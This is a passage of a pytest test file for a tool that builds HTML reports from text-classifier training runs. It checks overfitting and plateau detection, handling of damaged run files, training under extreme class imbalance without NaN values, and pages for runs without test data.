    for record, f1 in zip(falling, (60, 61)):  # the validation texts count, where there are any
        record["val"] = {"macro_f1": f1}
    assert not seen(falling)[name]


def test_accuracy_far_above_macro_f1_is_minority_overfitting():
    assert seen(history_of((2, 60, 10.1, {})))["Minority overfitting"]
    assert not seen(history_of((2, 60, 9.9, {})))["Minority overfitting"]


def test_what_a_run_does_not_measure_is_not_judged():
    plain = seen(history_of((3, 70, 3, {}), (2, 80, 2, {})))
    assert {name for name, is_seen in plain.items() if is_seen is not None} == {
        "A plateau while the loss falls",
        "Minority overfitting",
    }
    without_mixing = {name: v for name, v in INSIDE.items() if "mix" not in name}  # w/o HM
    got = seen(history_of((3, 70, 3, without_mixing)))
    assert got["Collapse of the mixing coefficients"] is None


# ---- bad input ----


FILES = "args.json metrics.jsonl data_report.json predictions.csv"


@pytest.mark.parametrize("name", FILES.split())
@pytest.mark.parametrize("damage", ["cut", "absent", "other"])
def test_a_damaged_file_of_the_run_is_one_line_and_exit_code_2(tmp_path, capsys, name, damage):
    folder = write_run(tmp_path, "abc")
    path = folder / name
    if damage == "absent":
        path.unlink()
    else:
        path.write_text(path.read_text()[:-25] if damage == "cut" else "{}\n[1]\n")
    capsys.readouterr()
    code, output = report.main([str(folder)]), capsys.readouterr()
    assert code == 2 and output.err.startswith("error: ") and output.err.count("\n") == 1
    assert not (folder / "report.html").exists()


def test_a_protocol_is_not_ignored_in_silence(tmp_path, capsys):
    folder = write_run(tmp_path)
    with pytest.raises(SystemExit) as caught:
        report.main([str(folder), "--protocol", "best_test"])
    assert caught.value.code == 2 and "--protocol" in capsys.readouterr().err
    assert report.main([str(folder), "--output_dir", str(tmp_path / "pages")]) == 0
    assert (tmp_path / "pages" / "report.html").exists()


# ---- extreme imbalance, from the texts to the page ----


@pytest.mark.filterwarnings("error")
@pytest.mark.parametrize(
    "options",
    [
        "--method sharprecl --profile exp",
        "--method la --profile consecutive",
        "--method bert --profile step",
        "--max_per_class 1 --plots",
        "--n_pos 1 --n_neg 1 --k 1",
        "--method tfidf",
        "--n_pos 300 --n_neg 3000 --k 9999 --batch_size 1",
    ],
)
def test_a_class_of_one_text_trains_without_a_warning_or_nan_and_has_its_page(
    corpus_folder, tiny_encoder, tmp_path, options
):
    alone = "" if "--max_per_class" in options else "--label_noise 0.3 --val_fraction 0.2 --ir 40"
    options = f"--epochs 2 --batch_size 8 {alone} {options}"
    folder = trained(tmp_path, corpus_folder, options, tiny_encoder)
    for name in ("metrics.jsonl", "result.json", "classification_report.json", "data_report.json"):
        assert not re.search("NaN|Infinity", (folder / name).read_text())
    assert report.main([str(folder)]) == 0 and report.main([str(tmp_path)]) == 0
    assert not re.search(r"\bnan\b", (folder / "report.html").read_text())


# ---- a run without test texts, and a finished model on other texts ----


def test_a_run_that_was_trained_on_all_texts_says_so_on_its_page(with_figures, tmp_path):
    folder = write_run(tmp_path, "ab", epochs=2)
    change_epochs(folder, lambda number, record: record.pop("test"))
    result = files.read_json(folder / "result.json")
    files.write_json(folder / "result.json", result | {"last": {"epoch": 2}, "best_test": {}})
    (folder / "predictions.csv").unlink()
    keep_model(folder)
    found = page_of(folder)
    assert "This run has no test texts, so this page has no test result" in found.text
    assert found.tables == {"Classes": [["class", "training texts"], ["a", "80"], ["b", "80"]]}
    assert found.commands[0].endswith("labelled.csv --score") and len(found.commands) == 3
    assert [words for words in found.figures if "epoch" in words]  # the training loss
